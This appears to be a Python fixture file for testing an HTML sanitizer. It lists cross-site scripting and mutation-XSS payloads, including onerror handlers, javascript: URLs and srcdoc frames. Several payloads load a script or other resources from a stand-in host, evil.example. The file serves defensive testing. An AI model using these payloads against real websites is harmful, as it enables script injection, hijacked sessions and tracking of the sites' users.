"""Pieces of pages with which others have got scripts past readers that see a page in another way than a browser."""

HOSTILE = [
    "<<script></script>img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<select><xmp><script>alert(1)</script></xmp></select>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><script>alert(1)</script>",
    "<style>/* <img src=x onerror=alert(1)> */</style>",
    "<style><!-- </style><img src=x onerror=alert(1)> --></style>",
    "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    "<iframe><img src=x onerror=alert(1)></iframe><noframes><script>alert(1)</script></noframes>",
    "<a href onclick=1 =javascript:alert(1)>",
    '<a href="jav&Tab;ascript:alert(1)">x</a>',
    "<svg><set attributeName=href to=javascript:alert(1)></set><a id=x><text>t</text></a></svg>",
    "<svg><script href='https://evil.example/s.js'/></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<img src=x: onerror=alert(1)//>",
    "<plaintext><script>alert(1)</script>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<template><script>alert(1)</script></template>",
    "<body onload=alert(1)><input autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=import href=https://evil.example/><link rel=prefetch href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';p{background:u\\72l(https://evil.example/y)}</style><p>x",
    "<div style='background:url(https://evil.example/z)'>x</div>",
    "<table background='https://evil.example/t'><tr><td>x</table>",
    "<svg><image xlink:href='https://evil.example/i'/><feImage href='https://evil.example/f'/></svg>",
]
"""Each is a page of its own, and all of them together are one."""

IN_A_BROWSER_ALONE = [
    '<math><mtext><table><mglyph><style><!--</style><b title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<iframe srcdoc='<script>parent.alert(1)</script><img src=https://evil.example/i>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=https://evil.example/e>",
    "<base href='https://evil.example/'><img src=a.png><video poster=b.png><source src=c.mp4></video>",
]
"""Of these, words that look like tags stay in attributes, where no browser takes them for any."""
